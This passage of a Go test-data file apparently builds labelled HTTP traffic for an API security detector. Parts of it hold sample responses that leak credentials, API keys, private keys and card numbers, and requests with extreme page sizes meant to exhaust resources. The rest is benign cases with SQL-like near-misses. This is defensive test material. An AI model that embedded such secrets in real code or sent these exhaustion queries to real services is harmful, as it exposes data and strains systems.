		`{"cache":{"url":"redis://:Zq8!hK2mP@10.0.5.7:6379/0"}}`,
		`{"broker":"amqps://parcel:0nTh3W4y!@mq.parcel.example:5671/prod"}`,
		`{"mongo":"mongodb+srv://trips-app:V9xLq2Tz7@cluster0.trips.example/bookings?retryWrites=true"}`,
		`{"smtp":"smtp://notify%40parcel.example:Sm7pP4ss!@smtp.mail.example:587"}`,
		// .env-style text bodies
		"APP_ENV=production\nAPP_KEY=base64:" + h3Alnum("appkey", 44, h3B64Alph) + "\nDB_HOST=10.0.2.15\nDB_PASSWORD=Parcel!2026db\nSTRIPE_SECRET=sk_live_" + h3Alnum("sk2", 40, h3Mixed) + "\n",
		"# trips config\nNODE_ENV=production\nJWT_SECRET=" + h3Hex("jwts", 64) + "\nAWS_SECRET_ACCESS_KEY=" + h3Alnum("asecret2", 40, h3B64Alph) + "\n",
		"MQTT_USER=fleet\nMQTT_PASSWORD=mqtt-Wr7!xx91\nINFLUX_TOKEN=" + h3Alnum("influx", 86, h3Mixed+"-_") + "==\n",
		`{"config":{"env":{"SECRET_KEY_BASE":"` + h3Hex("skb", 128) + `","DATABASE_PASSWORD":"r41ls-pr0d!"}}}`,
		`{"oauthClient":{"clientId":"iot-console","clientSecret":"` + h3Alnum("ocs", 48, h3Mixed+"-_") + `","redirectUri":"https://console.iot.example/cb"}}`,
		`{"firmwareSigning":{"hmac_secret":"` + h3Hex("fw", 64) + `"}}`,
		`{"driver":{"name":"Tom Reyes","license":"REYES710219T99","cardOnFile":"5200 8282 8282 8210"}}`,
		`{"invoice":{"payer":"Lina Haddad","paidWith":{"type":"visa","number":"4242424242424242","exp":"12/30"}}}`,
		`{"admin":{"bcrypt":"$2y$10$` + h3Alnum("bc2", 53, h3Mixed+"./") + `","role":"superuser"}}`,
		`{"backup":{"pgp":` + h3JSON(pem("PGP PRIVATE KEY BLOCK", "pgp", 900)) + `}}`,
		`{"azure":{"clientSecret":"` + h3Alnum("azs", 3, h3Mixed) + `8Q~` + h3Alnum("azs2", 34, h3Mixed+"_-.") + `","tenantId":"1c2d3e4f-0000-4a4a-9b9b-123456789abc"}}`,
	}
}

func h3SensitiveCases() []h3Case {
	var out []h3Case
	reqs := []string{
		h3Parcel + "/api/v1/invoices/INV-20931", h3Trips + "/v2/bookings/TRP-8812", h3IoT + "/api/v1/devices/dev_12/credentials",
		h3Parcel + "/api/v1/users/881", h3Trips + "/v2/admin/export?format=csv", h3IoT + "/api/v1/settings",
		h3Parcel + "/api/v1/integrations", h3Trips + "/v2/partners/77", h3IoT + "/api/v1/debug/config",
	}
	for i, b := range h3SensitiveBodies() {
		ct := "application/json"
		if !strings.HasPrefix(b, "{") {
			ct = "text/plain; charset=utf-8"
			if strings.HasPrefix(b, "booking_ref") {
				ct = "text/csv"
			}
		}
		out = append(out, h3Case{method: "GET", url: h3Pick(reqs, i), status: 200,
			hdr:  h3Hdr("User-Agent", h3Pick(h3UAs, i+4), "Accept", "*/*", "Authorization", h3Bearer(i+200)),
			rhdr: h3RespJSON("Content-Type", ct), rbody: b, labels: []string{h3Sensitive}})
	}
	return out
}

// ---- resource limits: page sizes far above 1,000 ----

func h3LimitCases() []h3Case {
	q := []string{
		"limit=5000", "per_page=10000", "pageSize=2500", "$top=99999", "maxItems=50000", "results_per_page=1001",
		"itemsPerPage=3000", "page%5Bsize%5D=5000", "page_limit=20000", "maxResults=100000", "max_page_size=9999",
		"num_per_page=4000", "PageSize=1000000", "perPage=7500", "rows_per_page=15000", "top=2000000",
		"limit=1e6", "limit=  8000", "LIMIT=65535", "pagesize=32767", "resultsPerPage=1200", "page_size=2147483647",
		"maxRecords=40000", "size=5000&from=0", "numResults=25000", "pageLimit=3000", "records_per_page=9000", "itemsPerPage=99999999",
		"first=5000", "max_items=12000", "per-page=2500", "batchSize=100000&limit=100000",
	}
	var out []h3Case
	bases := []string{h3Parcel + "/api/v1/parcels", h3Trips + "/v2/flights/search?from=LHR&to=BCN", h3IoT + "/api/v1/telemetry?device_id=dev_9", h3Parcel + "/api/v1/events"}
	for i, s := range q {
		u := h3Pick(bases, i)
		sep := "?"
		if strings.Contains(u, "?") {
			sep = "&"
		}
		out = append(out, h3Case{method: "GET", url: u + sep + s, status: 200, hdr: h3Hdr("User-Agent", h3Pick(h3UAs, i+2), "Authorization", h3Bearer(i+300)),
			rhdr: h3RespJSON(), rbody: `{"items":[],"total":18211}`, labels: []string{h3Limits}})
	}
	// form bodies
	for i, f := range []string{"limit=9000&status=delivered", "per_page=5000&sort=-created", "pageSize=12000&q=Porto", "max_results=50000"} {
		out = append(out, h3Case{method: "POST", url: h3Pick(bases[:1], i) + "/search", status: 200, body: f,
			hdr:  h3Hdr("User-Agent", h3Pick(h3UAs, i), "Content-Type", "application/x-www-form-urlencoded", "Authorization", h3Bearer(i+330)),
			rhdr: h3RespJSON(), rbody: `{"items":[]}`, labels: []string{h3Limits}})
	}
	// JSON at depth
	jsons := []string{
		`{"query":{"status":"in_transit"},"pagination":{"page":1,"size":25000}}`,
		`{"from":0,"size":10000,"query":{"match":{"city":"Lyon"}}}`,
		`{"filter":{"deviceType":"thermostat"},"paging":{"limit":5000}}`,
		`{"page":{"number":0,"size":100000}}`,
		`{"pageable":{"page":0,"size":65536,"sort":"createdAt"}}`,
		`{"search":{"origin":"OPO","destination":"FNC"},"options":{"pageSize":4000}}`,
		`{"request":{"criteria":{"depot":"MAN"},"per_page":20000}}`,
		`{"maxItems":1000000,"cursor":null}`,
		`{"report":{"sections":[{"name":"bookings","limit":50000}]}}`,
		`{"export":{"results_per_page":30000,"format":"json"}}`,
		`{"pager":{"size":8192,"offset":0}}`,
		`{"list":{"itemsPerPage":2000}}`,
	}
	for i, j := range jsons {
		out = append(out, h3Case{method: "POST", url: h3Pick([]string{h3Parcel + "/api/v1/parcels/query", h3Trips + "/v2/bookings/search", h3IoT + "/api/v1/devices/search"}, i), status: 200, body: j,
			hdr:  h3Hdr("User-Agent", h3Pick(h3UAs, i+3), "Content-Type", "application/json", "Authorization", h3Bearer(i+340)),
			rhdr: h3RespJSON(), rbody: `{"results":[],"total":0}`, labels: []string{h3Limits}})
	}
	// GraphQL arguments and variables
	gql := []string{
		`{"query":"{ devices(first: 10000) { edges { node { id serial } } } }"}`,
		`{"query":"query T($n: Int!) { telemetry(deviceId: \"dev_3\", limit: $n) { ts value } }","variables":{"n":250000}}`,
		`{"query":"query { fleet { devices(limit: 5000, offset: 0) { id } } }"}`,
		`{"query":"query Alerts($pageSize: Int) { alerts(pageSize: $pageSize) { id level } }","variables":{"pageSize":99999}}`,
		`{"query":"{ firmwareReleases(last: 20000) { version } }"}`,
		`{"operationName":"Ev","query":"query Ev($p: PageInput) { events(page: $p) { id } }","variables":{"p":{"size":40000,"number":1}}}`,
		`{"query":"{ users(perPage: 3000) { id email } }"}`,
		`{"query":"{ devices(first:2500,after:\"YXJyYXljb25uZWN0aW9uOjA=\"){ totalCount } }"}`,
	}
	for i, g := range gql {
		out = append(out, h3Case{method: "POST", url: h3IoT + "/graphql", status: 200, body: g,
			hdr:  h3Hdr("User-Agent", h3Pick(h3UAs, i+9), "Content-Type", "application/json", "Authorization", h3Bearer(i+360)),
			rhdr: h3RespJSON(), rbody: `{"data":{}}`, labels: []string{h3Limits}})
	}
	// path style
	for i, p := range []string{"/api/v1/parcels/per_page/5000", "/v2/hotels/page/1/per_page/10000", "/api/v1/events/per_page/999999"} {
		out = append(out, h3Case{method: "GET", url: h3Pick([]string{h3Parcel, h3Trips, h3Parcel}, i) + p, status: 200,
			hdr: h3Hdr("User-Agent", h3Pick(h3UAs, i)), rhdr: h3RespJSON(), rbody: `{"items":[]}`, labels: []string{h3Limits}})
	}
	// JSON bodies above 10 MiB (captured truncated)
	for i := 0; i < 3; i++ {
		prefix := `{"readings":[` + strings.Repeat(`{"t":1789452000,"v":21.5},`, 40)
		out = append(out, h3Case{method: "POST", url: h3IoT + "/api/v1/telemetry/bulk", status: 202, body: prefix, bodySize: int64(11+i*7) << 20,
			hdr:  h3Hdr("User-Agent", "iot-agent/2.4.1 (esp32; fw 2.4.1)", "Content-Type", "application/json", "Authorization", h3Bearer(i+380)),
			rhdr: h3RespJSON(), rbody: `{"accepted":true}`, labels: []string{h3Limits}})
	}
	return out
}

// ---- benign traffic (parcel, travel, IoT) with near-misses ----

var h3NearMissText = []string{
	"Please select your plan before the drop-off date",
	"Meet at Union Station, platform 4, by the clock",
	"Delivery for Sean O'Brien, 2nd floor — ring twice",
	"1=1 is true in math class, said the tutor",
	"Leave by the side door; the dog is friendly",
	"Fragile: glass & ceramics, this side up",
	"Order 1001 or 1002, whichever ships first",
	"The union of sets A and B contains 7 elements",
	"Tables arrive Monday; select chair colour later",
	"Where is my parcel? It's been 3 days!",
	"Update: please delete the old label and use the new one",
	"Call me on +44 20 7946 0958 if nobody answers",
	"Drop off at O'Hare cargo, gate C12",
	"Bring the 'union jack' flag for the parade",
	"Max weight 30kg -- heavier goes freight",
	"Dinner at D'Angelo's, table for 4",
	"Is 2 + 2 = 4 or = 5? The kids were debating",
	"Insert the key card, then select floor 3",
	"Order by Friday for next-day delivery",
	"From: Zoë Ñúñez <zoe@mail.example>",
	"Window seat or aisle — whichever is free",
	"Room with a view of the cathedral, please",
	"Allergies: nuts & shellfish (severe)",
	"cat; dog crate in the back seat",
	"Please run the update tonight",
	"Our office is at 1 Infinite Loop; hours 9-5",
	"Reference: 'PX482019GB' (two parcels)",
	"Can't find my booking — where's the confirmation?",
	"#hashtag #travel #porto",
	"Price was €129.99 / night incl. breakfast",
}

var h3HTMLNotes = []string{
	"<p>Great driver, very <b>polite</b>.</p>",
	"<p>See <a href=\"https://www.parcel.example/help/returns\">returns</a> for details.</p>",
	"<ul><li>Breakfast</li><li>Late checkout</li></ul>",
	"<i>Loved</i> the hotel &amp; the pool",
	"<strong>Note:</strong> gate code changed<br>use 4411",
	"<h3>Itinerary</h3><p>Day 1: Lisbon</p>",
	"<blockquote>Best trip ever</blockquote>",
	"<a href=\"https://maps.example/place/porto\" rel=\"noopener\">map</a>",
	"<em>Temperature sensor moved</em> to the <code>north wall</code>",
	"<table><tr><td>Room</td><td>101</td></tr></table>",
	"<img src=\"https://cdn.trips.example/img/lisbon.jpg\" alt=\"Lisbon at dusk\">",
	"<span class=\"badge\">VIP</span>",
}

var h3Templates = []string{
	"Hello {{name}}, your parcel {{tracking}} is on its way",
	"Total: ${price} (incl. VAT)",
	"Hi {{ first_name }}, your flight {{ flight.number }} departs at {{ departure | date }}",
	"Dear ${customer.name}, thanks for booking",
	"{% if vip %}Welcome back!{% endif %}",
	"Device <%= name %> reported {{temp}} °C",
	"Your code is #{code}",
	"Use {{ trip.days }} days of cover",
}

var h3ForumPosts = []string{
	"How do I page through devices? I tried `devices(first: 50)` and it works.\n\n```graphql\nquery { devices(first: 50) { edges { node { id } } } }\n```",
	"Firmware build fails, output of `make flash`:\n\n```\nerror: region `iram0_0_seg' overflowed by 48 bytes\n```",
	"Tip: `git log | head` shows the last commits of the SDK.",
	"In Python: `if temp >= 30 and not device.frozen: alert()`",
	"My config lives in `config/devices.yaml`, paths like `../shared/base.yaml` are included.",
	"Use **jq**: `curl -s https://iot.example/api/v1/devices | jq '.items[].id'`",
	"Math check: (a + b) * c = ac + bc, so 3*(2+1) = 9",
	"Markdown list:\n- [x] rotate keys\n- [ ] update docs\n\n> quoting the changelog",
	"The MQTT topic is `fleet/+/telemetry`, QoS 1.",
	"Reading `/etc/nginx/nginx.conf` in the docs helped me set the proxy.",
	"`SELECT` your device in the dropdown, then hit *Update*.",
	"Example payload: `{\"temp\": 21.5, \"unit\": \"C\"}`",
}

var h3Names = []string{"Sean O'Brien", "Aoife Ní Bhriain", "José Álvarez", "Mei Lin", "Oluwaseun Adeyemi", "Anna-Lena Vogel", "D'Arcy Moore", "Priya Natarajan", "Łukasz Wójcik", "Fatima Zahra El Idrissi", "Connor MacDonald", "Zoë Ñúñez"}
var h3Emails = []string{"sean.obrien@mail.example", "aoife+travel@mail.example", "j.alvarez@corp.example", "mei.lin@mail.example", "ops@parcel.example", "dispatch@logistics.example", "o'connor@mail.example", "priya.n@mail.example"}
var h3Cities = []string{"Leeds", "Manchester", "Glasgow", "Lisbon", "Porto", "Kraków", "Dublin", "Union City", "Selby", "Dropmore"}
var h3PublicIPs = []string{"8.8.8.8", "1.1.1.1", "81.2.69.160", "5.45.207.12", "89.160.20.112", "216.160.83.56", "151.101.1.69", "104.16.132.229"}
var h3Files = []string{"reports/2026/q1.pdf", "labels/2026/09/SHP-7731902.pdf", "exports/trips/2026-09-14.csv", "firmware/esp32/v2.4.1.bin", "docs/api/v2/README.md", "invoices/INV-20931.v2.pdf", "img/hotels/lisbon.main.jpg", "manifests/MAN/2026-09-15.xml"}
var h3Webhooks = []string{"https://hooks.slack.com/services/T000/B000/XXXXXXXX", "https://erp.customer.example/webhooks/parcel", "https://api.partner-travel.example/callbacks/booking", "https://8.8.8.8/dns-query", "https://events.iot-partner.example/in", "https://s3.eu-west-1.amazonaws.com/bucket-public/avatars/u81.png", "https://cdn.trips.example/avatars/u_2231.jpg", "https://webhook.site/5b1a2c3d-0000-4000-8000-000000000001"}

func h3Benign(i int) h3Case {
	ua := h3Pick(h3UAs, i*7+1)
	auth := h3Bearer(i + 1000)
	nm := h3Pick(h3Names, i)
	note := h3Pick(h3NearMissText, i*3)
	tracking := fmt.Sprintf("PX%09dGB", 482019000+i*37)
	c := h3Case{status: 200, rhdr: h3RespJSON(), hdr: h3Hdr("User-Agent", ua, "Accept", "application/json", "Authorization", auth)}
	jsonBody := func(v any) {
		c.body = h3JSON(v)
		c.hdr["Content-Type"] = []string{"application/json"}
	}
	switch i % 40 {
	case 0:
		c.method, c.url = "GET", h3Parcel+"/api/v1/parcels/"+tracking
		c.rbody = h3JSON(map[string]any{"tracking": tracking, "status": "in_transit", "events": []any{map[string]any{"at": "2026-09-14T18:02:00Z", "where": h3Pick(h3Cities, i), "what": "Arrived at depot"}}})
	case 1:
		c.method, c.url = "GET", h3Parcel+fmt.Sprintf("/api/v1/parcels?status=in_transit&limit=%d&cursor=%s", h3Pick([]int{20, 50, 100, 250, 1000}, i), h3B64([]byte(fmt.Sprint("cursor:", i))))
		c.rbody = `{"items":[{"tracking":"` + tracking + `"}],"next_cursor":"` + h3B64([]byte(fmt.Sprint("c", i+1))) + `"}`
	case 2:
		c.method, c.url = "POST", h3Parcel+"/api/v1/shipments"
		jsonBody(map[string]any{"recipient": map[string]any{"name": nm, "email": h3Pick(h3Emails, i), "phone": "+44 7700 900" + fmt.Sprintf("%03d", i%1000), "address": map[string]any{"line1": fmt.Sprintf("%d Union Street", 1+i%90), "city": h3Pick(h3Cities, i), "postcode": "G1 3RB"}}, "deliveryNotes": note, "service": h3Pick([]string{"standard", "next_day", "drop_off"}, i)})
		c.status, c.rbody = 201, `{"shipmentId":"SHP-`+fmt.Sprint(7700000+i)+`","status":"created"}`
	case 3:
		c.method, c.url = "PATCH", h3Parcel+fmt.Sprintf("/api/v1/shipments/SHP-%d", 7700000+i)
		jsonBody(map[string]any{"delivery_instructions": h3Pick(h3HTMLNotes, i), "safe_place": "porch"})
		c.rbody = `{"updated":true}`
	case 4:
		c.method, c.url = "POST", h3Parcel+"/api/v1/webhooks"
		jsonBody(map[string]any{"callbackUrl": h3Pick(h3Webhooks, i), "events": []string{"parcel.delivered", "parcel.exception"}, "secretHint": "****" + h3Alnum(fmt.Sprint(i), 4, h3Mixed)})
		c.status, c.rbody = 201, `{"id":"wh_`+fmt.Sprint(2000+i)+`","active":true}`
	case 5:
		c.method, c.url = "GET", h3Parcel+"/api/v1/depots?near="+url.QueryEscape(h3Pick([]string{"union station", "select city", "drop-off point", "O'Connell St"}, i))+"&per_page=100"
		c.rbody = `{"depots":[{"id":"DEP-01","name":"Union Station Depot"}],"page":1,"per_page":100}`
	case 6:
		c.method, c.url = "GET", h3Parcel+"/api/v1/reports/download?file="+url.QueryEscape(h3Pick(h3Files, i))
		c.rhdr = h3RespJSON("Content-Type", "application/json")
		c.rbody = `{"url":"https://files.parcel.example/` + h3Pick(h3Files, i) + `?X-Amz-Expires=300&X-Amz-Signature=` + h3Hex(fmt.Sprint("ps", i), 64) + `"}`
	case 7:
		c.method, c.url = "POST", h3Parcel+"/soap/CustomsService"
		c.hdr["Content-Type"] = []string{"text/xml; charset=utf-8"}
		c.hdr["Soapaction"] = []string{"\"urn:customs#SubmitDeclaration\""}
		c.body = `<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><SubmitDeclaration xmlns="urn:customs"><Consignee>` + strings.ReplaceAll(nm, "'", "&apos;") + `</Consignee><Description>Books &amp; magazines; select titles</Description><HsCode>4901.99</HsCode><Value currency="GBP">` + fmt.Sprint(20+i%80) + `.00</Value></SubmitDeclaration></soap:Body></soap:Envelope>`
		c.rhdr = h3Hdr("Content-Type", "text/xml; charset=utf-8")
		c.rbody = `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><SubmitDeclarationResponse xmlns="urn:customs"><Mrn>26GB` + h3Alnum(fmt.Sprint("mrn", i), 14, h3Upper) + `</Mrn></SubmitDeclarationResponse></soap:Body></soap:Envelope>`
	case 8:
		c.method, c.url = "POST", h3Parcel+"/oauth/token"
		delete(c.hdr, "Authorization")
		c.hdr["Content-Type"] = []string{"application/x-www-form-urlencoded"}
		c.body = "grant_type=client_credentials&client_id=erp-" + fmt.Sprint(i%30) + "&scope=read%3Aparcels"
		c.rbody = `{"access_token":"` + h3ValidJWT(i) + `","token_type":"Bearer","expires_in":3600}`
	case 9:
		c.method, c.url = "GET", h3Parcel+fmt.Sprintf("/api/v1/invoices/INV-%d", 20000+i)
		c.rbody = h3JSON(map[string]any{"invoiceId": fmt.Sprintf("INV-%d", 20000+i), "orderNo": fmt.Sprint(100000000 + i*13), "amount": "18.40", "card": map[string]any{"brand": "visa", "last4": "4242", "display": "**** **** **** 4242"}})
	case 10:
		c.method, c.url = "POST", h3Parcel+"/api/v1/addresses/validate"
		jsonBody(map[string]any{"postcode": "XX1", "email": "not-an-email"})
		c.status, c.rbody = 422, `{"errors":[{"field":"postcode","message":"invalid postcode"},{"field":"email","message":"invalid email"}]}`
	case 11:
		c.method, c.url = "GET", h3Parcel+"/api/v1/parcels/PX000000000GB"
		c.status, c.rbody = 404, `{"error":"not_found","message":"No parcel with that tracking number"}`
	case 12:
		c.method, c.url = "POST", h3Parcel+"/api/v1/support/tickets"
		jsonBody(map[string]any{"subject": "Question about " + tracking, "body": "**Hi team**,\n\n" + note + "\n\n- item 1\n- item 2\n\nThanks, " + nm, "attachments": []string{h3Pick(h3Files, i)}})
		c.status, c.rbody = 201, `{"ticket":"TCK-`+fmt.Sprint(5000+i)+`"}`
	case 13:
		c.method, c.url = "GET", h3Parcel+"/api/v1/pickups?drop_off_date=2026-09-"+fmt.Sprintf("%02d", 15+i%14)+"&select=plan&fields=id,window,union_code"
		c.rbody = `{"pickups":[{"id":"PU-1","window":"09:00-12:00"}]}`
	case 14:
		c.method, c.url = "GET", h3Trips+"/v2/flights/search?from=LHR&to="+h3Pick([]string{"JFK", "LIS", "OPO", "KRK", "DUB"}, i)+"&date=2026-10-0"+fmt.Sprint(1+i%9)+"&page_size=50&sort=price"
		c.rbody = `{"flights":[{"number":"TP1351","price":{"amount":129.99,"currency":"EUR"}}],"page":1,"page_size":50}`
	case 15:
		c.method, c.url = "POST", h3Trips+"/v2/bookings"
		jsonBody(map[string]any{"flightId": "TP1351-20261003", "passengers": []any{map[string]any{"firstName": strings.Split(nm, " ")[0], "lastName": h3Pick([]string{"O'Connor", "D'Angelo", "Smith-Jones", "van der Berg"}, i), "email": h3Pick(h3Emails, i), "dob": "1988-04-12"}, map[string]any{"first_name": "Mia", "last_name": "O'Connor", "dob": "2016-07-30"}}, "notes": note})
		c.status, c.rbody = 201, `{"bookingRef":"TRP-`+h3Alnum(fmt.Sprint("br", i), 6, h3Upper)+`","status":"confirmed"}`
	case 16:
		ref := "TRP-" + h3Alnum(fmt.Sprint("br", i), 6, h3Upper)
		c.method, c.url = "GET", h3Trips+"/v2/bookings/"+ref
		c.rbody = h3JSON(map[string]any{"bookingRef": ref, "lead": nm, "payment": map[string]any{"method": "card", "masked": "•••• 1111", "last_four": "1111"}, "total": "318.40"})
	case 17:
		c.method, c.url = "POST", h3Trips+"/v2/reviews"
		jsonBody(map[string]any{"hotelId": 9000 + i%50, "rating": 1 + i%5, "comment": h3Pick(h3HTMLNotes, i+3), "title": note})
		c.status, c.rbody = 201, `{"reviewId":`+fmt.Sprint(77000+i)+`}`
	case 18:
		c.method, c.url = "PUT", h3Trips+"/v2/profile"
		jsonBody(map[string]any{"displayName": nm, "avatarUrl": h3Pick(h3Webhooks, i+5), "homeAirport": "LIS", "website": "https://blog.example/travels"})
		c.rbody = `{"updated":true}`
	case 19:
		c.method, c.url = "POST", h3Trips+"/v2/cms/templates"
		jsonBody(map[string]any{"name": "booking_confirmation_" + fmt.Sprint(i%7), "locale": "en-GB", "body": h3Pick(h3Templates, i), "subject": "Your trip to {{destination}}"})
		c.status, c.rbody = 201, `{"templateId":"tpl_`+fmt.Sprint(i)+`"}`
	case 20:
		c.method, c.url = "GET", h3Trips+"/v2/hotels?q="+url.QueryEscape(h3Pick([]string{"union square", "select hotels", "O'Hare airport", "drop inn", "where to stay in Porto"}, i))+"&sort=price&limit=25"
		c.rbody = `{"hotels":[{"id":9001,"name":"Union Square Inn"}]}`
	case 21:
		c.method, c.url = "POST", h3Trips+"/v2/payments/intent"
		jsonBody(map[string]any{"bookingRef": "TRP-ABC123", "amount": 31840, "currency": "EUR"})
		c.rbody = `{"clientSecret":"pi_` + h3Alnum(fmt.Sprint("pi", i), 24, h3Mixed) + `_secret_` + h3Alnum(fmt.Sprint("pis", i), 25, h3Mixed) + `","publishableKey":"pk_live_` + h3Alnum("pk", 40, h3Mixed) + `","card":{"last4":"4242"}}`
	case 22:
		c.method, c.url = "GET", h3Trips+"/v2/trips/"+fmt.Sprint(300000+i)+"/itinerary"
		c.rbody = `{"days":[{"day":1,"city":"Lisbon","note":"` + note + `"}]}`
	case 23:
		c.method, c.url = "POST", h3Trips+"/v2/gds/availability"
		c.hdr["Content-Type"] = []string{"application/soap+xml; charset=utf-8"}
		c.body = `<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><OTA_AirAvailRQ xmlns="http://www.opentravel.org/OTA/2003/05" Version="2.0"><OriginDestinationInformation><DepartureDateTime>2026-10-0` + fmt.Sprint(1+i%9) + `T00:00:00</DepartureDateTime><OriginLocation LocationCode="LIS"/><DestinationLocation LocationCode="FNC"/></OriginDestinationInformation><Remark>Select cheapest &amp; direct; union fares OK</Remark></OTA_AirAvailRQ></soap:Body></soap:Envelope>`
		c.rhdr = h3Hdr("Content-Type", "application/soap+xml; charset=utf-8")
		c.rbody = `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body><OTA_AirAvailRS xmlns="http://www.opentravel.org/OTA/2003/05"><Success/></OTA_AirAvailRS></soap:Body></soap:Envelope>`
	case 24:
		c.method, c.url = "POST", h3Trips+"/v2/notes"
		jsonBody(map[string]any{"trip_id": 300000 + i, "text": h3Pick([]string{"1=1 is true in math class", "5 - 3 = 2, so two days left", "select your plan: basic or plus", "drop-off date moved to the 20th", "a || b in the itinerary means either", "x = y * 2 where y is nights"}, i)})
		c.status, c.rbody = 201, `{"ok":true}`
	case 25:
		c.method, c.url = "POST", h3IoT+"/graphql"
		jsonBody(map[string]any{"operationName": "Devices", "query": "query Devices($first: Int!, $after: String) { devices(first: $first, after: $after) { edges { node { id name firmware { version } } } pageInfo { endCursor hasNextPage } } }", "variables": map[string]any{"first": h3Pick([]int{20, 50, 100, 200}, i), "after": h3B64([]byte(fmt.Sprint("arrayconnection:", i*20)))}})
		c.rbody = `{"data":{"devices":{"edges":[{"node":{"id":"dev_1","name":"Boiler room","firmware":{"version":"2.4.1"}}}],"pageInfo":{"endCursor":"YXJyYXljb25uZWN0aW9uOjE=","hasNextPage":true}}}}`
	case 26:
		c.method, c.url = "POST", h3IoT+"/graphql"
		jsonBody(map[string]any{"query": "mutation Rename($id: ID!, $name: String!) { renameDevice(id: $id, name: $name) { id name } }", "variables": map[string]any{"id": fmt.Sprintf("dev_%d", i%500), "name": h3Pick([]string{"Kitchen <b>sensor</b>", "O'Brien's garage", "Union Hall #2", "Select room", "Drop zone A"}, i)}})
		c.rbody = `{"data":{"renameDevice":{"id":"dev_1","name":"ok"}}}`
	case 27:
		c.method, c.url = "POST", h3IoT+"/graphql"
		jsonBody(map[string]any{"query": "query T($id: ID!) { telemetry(deviceId: $id, from: \"2026-09-14T00:00:00Z\", to: \"2026-09-15T00:00:00Z\", limit: 500) { ts value } }", "variables": map[string]any{"id": fmt.Sprintf("dev_%d", i%300)}})
		c.rbody = `{"data":{"telemetry":[{"ts":"2026-09-14T00:00:00Z","value":21.5}]}}`
	case 28:
		c.method, c.url = "GET", h3IoT+fmt.Sprintf("/api/v1/devices/dev_%d/config", i%400)
		c.rbody = h3JSON(map[string]any{"ntpServer": "pool.ntp.org", "dns": []string{h3Pick(h3PublicIPs, i), h3Pick(h3PublicIPs, i+1)}, "mqtt": map[string]any{"host": "mqtt.iot.example", "port": 8883}, "reportIntervalSec": 30})
	case 29:
		c.method, c.url = "POST", h3IoT+fmt.Sprintf("/api/v1/devices/dev_%d/commands", i%400)
		jsonBody(map[string]any{"command": h3Pick([]string{"reboot", "set_interval", "blink", "sync_time"}, i), "args": map[string]any{"seconds": 30 + i%60}})
		c.status, c.rbody = 202, `{"commandId":"cmd_`+fmt.Sprint(i)+`","state":"queued"}`
	case 30:
		c.method, c.url = "POST", h3IoT+"/api/v1/forum/posts"
		jsonBody(map[string]any{"topicId": 120 + i%20, "body_markdown": h3Pick(h3ForumPosts, i), "author": nm})
		c.status, c.rbody = 201, `{"postId":`+fmt.Sprint(9000+i)+`}`
	case 31:
		c.method, c.url = "GET", h3IoT+"/api/v1/firmware/files?path="+url.QueryEscape(h3Pick([]string{"firmware/esp32/v2.4.1.bin", "firmware/nrf52/1.9.0/app.hex", "notes/release-2.4.md", "firmware/esp32/v2.4.0..v2.4.1.patch"}, i))
		c.rbody = `{"sha256":"` + h3Hex(fmt.Sprint("fw", i), 64) + `","size":1048576}`
	case 32:
		c.method, c.url = "POST", h3IoT+"/api/v1/devices/register"
		c.hdr["X-Forwarded-For"] = []string{h3Pick(h3PublicIPs, i)}
		c.hdr["User-Agent"] = []string{"iot-agent/2.4.1 (esp32; fw 2.4.1)"}
		jsonBody(map[string]any{"serial": "ESP-" + h3Alnum(fmt.Sprint("sn", i), 10, h3Upper), "mac": fmt.Sprintf("24:0a:c4:%02x:%02x:%02x", i%256, (i*7)%256, (i*13)%256), "publicIp": h3Pick(h3PublicIPs, i+2)})
		c.status, c.rbody = 201, `{"deviceId":"dev_`+fmt.Sprint(i)+`"}`
	case 33:
		c.method, c.url = "GET", h3Pick([]string{h3IoT, h3Parcel, h3Trips}, i)+"/.well-known/jwks.json"
		delete(c.hdr, "Authorization")
		c.rbody = `{"keys":[{"kty":"RSA","use":"sig","kid":"2026-09-key_1","alg":"RS256","e":"AQAB","n":"` + h3Sig(fmt.Sprint("pubn", i%3), 256) + `"}]}`
	case 34:
		c.method, c.url = "OPTIONS", h3Pick([]string{h3Trips + "/v2/bookings", h3Parcel + "/api/v1/shipments"}, i)
		delete(c.hdr, "Authorization")
		origin := h3Pick([]string{"https://www.trips.example", "https://app.parcel.example"}, i)
		c.hdr["Origin"] = []string{origin}
		c.hdr["Access-Control-Request-Method"] = []string{"POST"}
		c.status = 204
		c.rhdr = h3Hdr("Access-Control-Allow-Origin", origin, "Access-Control-Allow-Credentials", "true", "Access-Control-Allow-Methods", "GET, POST, PATCH", "Vary", "Origin")
	case 35:
		origin := h3Pick([]string{"https://www.trips.example", "https://app.parcel.example", "https://console.iot.example"}, i)
		c.method, c.url = "GET", h3Pick([]string{h3Trips + "/v2/profile", h3Parcel + "/api/v1/account", h3IoT + "/api/v1/me"}, i)
		c.hdr["Origin"] = []string{origin}
		c.rhdr = h3RespJSON("Access-Control-Allow-Origin", origin, "Access-Control-Allow-Credentials", "true", "Vary", "Origin")
		c.rbody = h3JSON(map[string]any{"id": fmt.Sprintf("u_%d", 20000+i), "email": h3Pick(h3Emails, i), "name": nm})
	case 36:
		// an expired token refused: the API working
		claims := map[string]any{"sub": fmt.Sprintf("usr_%d", i), "exp": h3T0.Add(-time.Duration(1+i%40) * time.Hour).Unix(), "iat": h3T0.Add(-48 * time.Hour).Unix()}
		c.method, c.url = "GET", h3Pick([]string{h3Trips + "/v2/bookings", h3Parcel + "/api/v1/shipments", h3IoT + "/api/v1/devices"}, i)
		c.hdr["Authorization"] = []string{"Bearer " + h3Token(map[string]any{"alg": "RS256", "typ": "JWT", "kid": "2026-08-key_2"}, claims, h3Sig(fmt.Sprint("expb", i), 256), false)}
		c.status, c.rbody = 401, `{"error":"invalid_token","error_description":"The access token expired"}`
	case 37:
		c.method, c.url = "POST", h3Pick([]string{h3Trips + "/v2/auth/login", h3Parcel + "/api/v1/auth/login", h3IoT + "/api/v1/login"}, i)
		delete(c.hdr, "Authorization")
		jsonBody(map[string]any{"email": h3Pick(h3Emails, i), "password": "correct horse battery " + fmt.Sprint(i%10)})
